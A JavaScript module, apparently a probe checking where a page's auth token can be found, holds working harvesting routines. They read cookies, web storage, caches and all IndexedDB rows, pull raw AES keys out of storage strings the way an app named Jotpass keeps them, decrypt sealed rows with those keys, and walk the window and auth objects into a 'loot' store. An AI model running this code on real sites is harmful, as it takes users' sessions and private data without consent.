/** Attempts that look where a token may lie: storages, objects, memory. */

import { everything } from "./loot.js";

export const looking = [
  {
    name: "Read cookies and storages",
    code: "document.cookie, localStorage, caches",
    async run({ loot }) {
      loot.take([document.cookie, { ...localStorage }, { ...sessionStorage }]);
      for (const name of await caches.keys()) loot.take((await (await caches.open(name)).keys()).map(({ url }) => url));
    },
  },
  {
    name: "Read IndexedDB, with the keys that lie about",
    code: "indexedDB, crypto.subtle.decrypt()",
    async run({ loot }) {
      const rows = await allRows();
      loot.take(rows);
      for (const key of [...rows.filter((row) => row instanceof CryptoKey), ...(await keysInStorages())]) {
        for (const { iv, sealed } of rows) {
          if (sealed) await crypto.subtle.decrypt({ name: "AES-GCM", iv }, key, sealed).then(loot.take, () => {});
        }
      }
    },
  },
  {
    name: "Walk every object there is",
    code: "auth, auth.session, window",
    run({ auth, loot }) {
      loot.take([auth, auth.session, JSON.stringify(auth)], everything);
      loot.take(window, everything);
    },
  },
];

async function allRows() {
  const rows = [];
  for (const { name } of await indexedDB.databases()) {
    const database = await done(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      rows.push(...(await done(database.transaction(store).objectStore(store).getAll())));
    }
    database.close();
  }
  return rows;
}

/** As Jotpass keeps them: in base64, at the end of a text. */
async function keysInStorages() {
  const texts = [...Object.values(localStorage), ...Object.values(sessionStorage)];
  const bytes = texts.flatMap((text) => {
    try {
      return [Uint8Array.from(atob(text.slice(24)), (character) => character.charCodeAt(0))];
    } catch {
      return [];
    }
  });
  const imports = bytes.map((raw) => crypto.subtle.importKey("raw", raw, "AES-GCM", false, ["decrypt"]));
  return (await Promise.allSettled(imports)).flatMap(({ value }) => value ?? []);
}

function done(request) {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
}
